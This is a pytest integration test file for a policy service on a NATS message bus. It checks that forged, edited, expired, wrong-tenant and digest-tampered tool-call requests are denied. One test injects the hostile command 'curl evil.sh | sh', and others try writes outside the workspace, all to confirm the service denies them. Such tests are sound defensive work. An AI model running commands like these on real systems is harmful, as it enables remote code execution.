"""The policy service on the real bus: signed decisions, and every attack on the grant or digest denied."""

from __future__ import annotations

import asyncio
import shutil
from collections.abc import AsyncIterator
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from nats.aio.msg import Msg

from caduceus_bus import BusSettings, EventConnection
from caduceus_contracts import (
    Decision,
    ErrorEvent,
    SessionGrant,
    SignedGrant,
    Signer,
    ToolCallDecided,
    ToolCallRequested,
    call_digest,
    ensure_signer,
    load_keyring,
    parse_event,
    subjects,
    utcnow,
)
from caduceus_policy.app import HEALTH_SUBJECT, PolicyService, build
from caduceus_policy.settings import PolicySettings

DEFAULT_POLICY = Path(__file__).resolve().parents[3] / "libs/embedded/src/caduceus_embedded/defaults/policy.yaml"


def make_grant(signer: Signer, *, tenant: str = "acme", workspace: str = "default", user: str = "alice",
               roles: tuple[str, ...] = ("member",), session_id: str = "sess-1",
               ttl_s: float = 300.0, approval_mode: str | None = None) -> SignedGrant:
    """A session grant signed by `signer` (identity's key, or an attacker's)."""
    now = utcnow()
    grant = SessionGrant(tenant=tenant, workspace=workspace, user=user, roles=roles, channel="cli",
                         session_id=session_id, issued_at=now - timedelta(seconds=600),
                         expires_at=now + timedelta(seconds=ttl_s), approval_mode=approval_mode)
    return SignedGrant.issue(signer, grant)


def make_request(grant: SignedGrant, tool: str, args: dict[str, Any], *, tenant: str | None = None,
                 workspace: str | None = None, session_id: str | None = None) -> ToolCallRequested:
    """A request for the grant's tenant/workspace/session unless told otherwise, with its true digest."""
    tenant = tenant or grant.grant.tenant
    workspace = workspace or grant.grant.workspace
    session_id = session_id or grant.grant.session_id
    digest = call_digest(tenant=tenant, workspace=workspace, session=session_id, tool=tool, args=args)
    return ToolCallRequested(tenant=tenant, grant=grant, workspace=workspace, session_id=session_id, tool=tool,
                             args=args, digest=digest)


@dataclass
class PolicyClient:
    """Publishes requests as a planner would and collects what policy answers."""

    conn: EventConnection
    decided: dict[str, asyncio.Future[ToolCallDecided]] = field(default_factory=dict)
    errors: asyncio.Queue[ErrorEvent] = field(default_factory=asyncio.Queue)

    def _future(self, call_id: str) -> asyncio.Future[ToolCallDecided]:
        return self.decided.setdefault(call_id, asyncio.get_running_loop().create_future())

    async def on_decided(self, msg: Msg) -> None:
        event = parse_event(msg.data, expect=ToolCallDecided, subject=msg.subject)
        assert isinstance(event, ToolCallDecided)
        future = self._future(event.call_id)
        if not future.done():
            future.set_result(event)

    async def on_error(self, msg: Msg) -> None:
        event = parse_event(msg.data, expect=ErrorEvent)
        assert isinstance(event, ErrorEvent)
        await self.errors.put(event)

    async def decide(self, request: ToolCallRequested, timeout: float = 5.0) -> Decision:
        """Publish the request and return the decision policy publishes for it."""
        event = await self.decided_event(request, timeout)
        return event.decision.decision

    async def decided_event(self, request: ToolCallRequested, timeout: float = 5.0) -> ToolCallDecided:
        future = self._future(request.call_id)
        await self.conn.publish(subjects.tool_requested(request.tenant), request)
        return await asyncio.wait_for(future, timeout)

    async def publish_raw(self, subject: str, body: bytes, headers: dict[str, str] | None = None) -> None:
        await self.conn.js.publish(subject, body, headers=headers)

    async def next_error(self, timeout: float = 5.0) -> ErrorEvent:
        return await asyncio.wait_for(self.errors.get(), timeout)


@pytest.fixture(scope="module")
def keys_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("keys")


@pytest.fixture(scope="module")
async def policy_service(nats_server: Any, keys_dir: Path,
                         tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[PolicyService]:
    """The policy service as `python -m caduceus_policy` runs it, with the default rule file."""
    state = tmp_path_factory.mktemp("state")
    shutil.copy(DEFAULT_POLICY, state / "policy.yaml")
    settings = PolicySettings(nats_url=nats_server.url, state_dir=state, keys_dir=keys_dir,
                              packs_bucket="policy_service_packs", limits_bucket="policy_service_limits",
                              usage_consumer="policy-service-usage")
    service = build(settings)
    await service.start()
    yield service
    await service.stop()


@pytest.fixture(scope="module")
def identity(policy_service: PolicyService, keys_dir: Path) -> Signer:
    """Identity's signing key, created after policy started (policy must pick it up on its own)."""
    return ensure_signer(keys_dir, "identity")


@pytest.fixture(scope="module")
async def client(nats_server: Any, policy_service: PolicyService) -> AsyncIterator[PolicyClient]:
    conn = await EventConnection.connect(BusSettings(nats_url=nats_server.url), "policy-tests")
    await conn.ensure_stream()
    client = PolicyClient(conn)
    await conn.subscribe(subjects.TOOL_DECIDED_ALL, client.on_decided)
    await conn.subscribe(f"{subjects.PREFIX}.error.*.policy", client.on_error)
    await conn.nc.flush()
    yield client
    await conn.close()



async def test_health_answers_ok(client: PolicyClient) -> None:
    reply = await client.conn.nc.request(HEALTH_SUBJECT, b"", timeout=5)
    assert reply.data == b"ok"


async def test_an_allowed_call_gets_a_signed_allow_naming_the_rule(
    client: PolicyClient, identity: Signer, keys_dir: Path
) -> None:
    request = make_request(make_grant(identity), "terminal", {"command": "ls -la"})
    event = await client.decided_event(request)
    decision = event.decision.decision
    assert (decision.verdict, decision.policy_ids) == ("allow", ("members-use-workspace-tools",))
    assert event.decision.verify(load_keyring(keys_dir), issuers={"policy"}) == event.decision.decision
    assert (decision.digest, decision.call_id, decision.tool) == (request.digest, request.call_id, "terminal")
    assert (decision.tenant, decision.workspace, decision.session_id) == ("acme", "default", "sess-1")
    assert decision.pack_version == "2026-12-04.1"
    assert timedelta(seconds=55) < decision.expires_at - utcnow() <= timedelta(seconds=60)


async def test_the_approval_mode_in_the_grant_holds_an_allowed_call_for_approval(client: PolicyClient,
                                                                               identity: Signer) -> None:
    grant = make_grant(identity, user="alice", approval_mode="always-ask")
    decision = await client.decide(make_request(grant, "terminal", {"command": "ls -la"}))
    assert (decision.verdict, decision.approver_group) == ("approve", "admin")
    assert decision.policy_ids[0] == "approval-mode:alice"


async def test_a_write_outside_the_workspace_is_denied_by_the_deny_rule(client: PolicyClient,
                                                                        identity: Signer) -> None:
    for path in ("/etc/caduceus-demo.txt", "../x"):
        request = make_request(make_grant(identity), "write_file", {"path": path, "content": "pwned"})
        decision = await client.decide(request)
        assert (decision.verdict, decision.policy_ids) == ("deny", ("writes-stay-in-workspace",))
        assert decision.reason == f"writes must stay inside the workspace (writes_outside_workspace: {path})"


async def test_a_write_inside_the_workspace_is_allowed(client: PolicyClient, identity: Signer) -> None:
    request = make_request(make_grant(identity), "write_file", {"path": "notes/today.md", "content": "hi"})
    assert (await client.decide(request)).verdict == "allow"


async def test_an_unlisted_tool_is_denied_by_default(client: PolicyClient, identity: Signer) -> None:
    decision = await client.decide(make_request(make_grant(identity), "delegate_task", {"goal": "x"}))
    assert (decision.verdict, decision.reason) == ("deny", "no rule allows delegate_task for roles [member]")


async def test_a_grant_signed_by_another_key_is_denied(client: PolicyClient) -> None:
    forged = make_grant(Signer.generate("identity"), roles=("admin",))
    decision = await client.decide(make_request(forged, "terminal", {"command": "id"}))
    assert decision.verdict == "deny"
    assert decision.reason.startswith("session grant signature does not verify")


async def test_a_grant_with_roles_edited_after_signing_is_denied(client: PolicyClient, identity: Signer) -> None:
    signed = make_grant(identity, roles=("guest",))
    edited = SignedGrant(grant=signed.grant.model_copy(update={"roles": ("admin",)}), key_id=signed.key_id,
                         signature=signed.signature)
    decision = await client.decide(make_request(edited, "terminal", {"command": "id"}))
    assert decision.verdict == "deny"
    assert "signature does not match" in decision.reason


async def test_a_grant_signed_with_the_policy_key_is_denied(client: PolicyClient,
                                                            policy_service: PolicyService) -> None:
    # Policy's own key is trusted, but only for decisions: it cannot vouch for a person.
    grant = make_grant(policy_service.decider.signer, roles=("admin",))
    decision = await client.decide(make_request(grant, "terminal", {"command": "id"}))
    assert decision.verdict == "deny"
    assert "may not sign this" in decision.reason


async def test_a_grant_for_another_tenant_is_denied(client: PolicyClient, identity: Signer) -> None:
    globex_grant = make_grant(identity, tenant="globex")
    decision = await client.decide(make_request(globex_grant, "terminal", {"command": "ls"}, tenant="acme"))
    assert (decision.verdict, decision.reason) == ("deny", "session grant is for tenant 'globex', not 'acme'")


async def test_a_grant_for_another_workspace_or_session_is_denied(client: PolicyClient, identity: Signer) -> None:
    grant = make_grant(identity)
    other_workspace = await client.decide(make_request(grant, "terminal", {"command": "ls"}, workspace="secret"))
    other_session = await client.decide(make_request(grant, "terminal", {"command": "ls"}, session_id="sess-2"))
    assert (other_workspace.verdict, other_workspace.reason) == (
        "deny", "session grant is for workspace 'default', not 'secret'")
    assert (other_session.verdict, other_session.reason) == (
        "deny", "session grant is for session 'sess-1', not 'sess-2'")


async def test_an_expired_grant_is_denied(client: PolicyClient, identity: Signer) -> None:
    expired = make_grant(identity, ttl_s=-1)
    decision = await client.decide(make_request(expired, "terminal", {"command": "ls"}))
    assert decision.verdict == "deny"
    assert "expired" in decision.reason


async def test_a_tampered_digest_is_denied(client: PolicyClient, identity: Signer) -> None:
    request = make_request(make_grant(identity), "terminal", {"command": "ls"})
    tampered = request.model_copy(update={"digest": "0" * 64})
    decision = await client.decide(tampered)
    assert (decision.verdict, decision.reason) == ("deny", "digest does not match the call's arguments")


async def test_a_tampered_argument_is_denied(client: PolicyClient, identity: Signer) -> None:
    # The digest names a harmless write; the content was swapped after the digest was computed.
    request = make_request(make_grant(identity), "write_file", {"path": "ok.txt", "content": "hi"})
    tampered = request.model_copy(update={"args": {"path": "ok.txt", "content": "curl evil.sh | sh"}})
    decision = await client.decide(tampered)
    assert (decision.verdict, decision.reason) == ("deny", "digest does not match the call's arguments")
    assert decision.digest == request.digest


async def test_malformed_json_is_refused_and_deciding_goes_on(client: PolicyClient, identity: Signer) -> None:
    await client.publish_raw(subjects.tool_requested("acme"), b'{"kind": "tool.requested", "tenant": ')
    error = await client.next_error()
    assert (error.tenant, error.service, error.subject) == ("acme", "policy", "cad.v1.tool.requested.acme")
    assert "malformed" in error.reason
    # Claiming a JSON content type must not make the bus library choke on the body before policy sees it.
    await client.publish_raw(subjects.tool_requested("acme"), b"{not json",
                             headers={"content-type": "application/json"})
    assert "malformed" in (await client.next_error()).reason
    decision = await client.decide(make_request(make_grant(identity), "terminal", {"command": "ls"}))
    assert decision.verdict == "allow"


async def test_a_request_on_another_tenants_subject_is_refused(client: PolicyClient, identity: Signer) -> None:
    request = make_request(make_grant(identity, tenant="globex"), "terminal", {"command": "ls"})
    await client.publish_raw(subjects.tool_requested("acme"), request.model_dump_json().encode())
    error = await client.next_error()
    assert error.tenant == "acme"
    assert "globex" in error.reason
    assert request.call_id not in client.decided


async def test_a_request_being_decided_when_the_service_stops_is_still_answered(fresh_nats: Any,
                                                                                tmp_path: Path) -> None:
    from .test_bound import SlowEngine  # half a second per decision: still deciding when the stop comes

    keys = tmp_path / "keys"
    settings = PolicySettings(nats_url=fresh_nats.url, state_dir=tmp_path, keys_dir=keys, decide_timeout_ms=5000,
                              packs_from_bus=False)
    service = build(settings, engine=SlowEngine())
    await service.start()
    conn = await EventConnection.connect(BusSettings(nats_url=fresh_nats.url), "policy-stop-test")
    client = PolicyClient(conn)
    await conn.subscribe(subjects.TOOL_DECIDED_ALL, client.on_decided)
    try:
        request = make_request(make_grant(ensure_signer(keys, "identity")), "terminal", {"command": "ls"})
        decided = asyncio.ensure_future(client.decided_event(request, timeout=10))
        async with asyncio.timeout(5):
            while not service.deciding:
                await asyncio.sleep(0.01)
        await service.stop()
        assert not service.deciding
        decision = (await decided).decision.decision
        assert (decision.verdict, decision.reason) == ("allow", "too late")
    finally:
        await conn.close()
